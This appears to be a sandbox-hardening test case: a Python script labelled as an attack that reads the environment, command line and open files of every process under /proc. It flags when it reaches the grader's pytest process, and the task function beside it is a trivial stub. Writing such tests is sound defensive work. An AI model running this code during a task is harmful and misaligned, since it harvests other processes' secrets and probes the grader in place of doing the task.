# ATTACK [files]: reads environment, command line, open files and folders of every process in /proc
# STOPPED BY: its own process namespace, a cleared environment, and bare arguments of the one process that is ours
# WORKS AGAINST: no sandbox
import os
from pathlib import Path

mine = {os.getpid(), os.getppid()}
for process in Path("/proc").glob("[0-9]*"):
    for name in ("cmdline", "environ", "cwd", "root", "fd", "map_files"):
        try:
            path = process / name
            if path.is_symlink():
                print(path.readlink(), os.listdir(path))
            elif path.is_dir():
                for each in path.iterdir():
                    print(each.readlink(), each.read_bytes()[:4096] if each.is_file() else "")
            else:
                print(path.read_text(errors="replace"))
        except OSError:
            continue
    if "pytest" in (process / "cmdline").read_text(errors="replace"):
        raise RuntimeError("REACHED the grader's process")


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
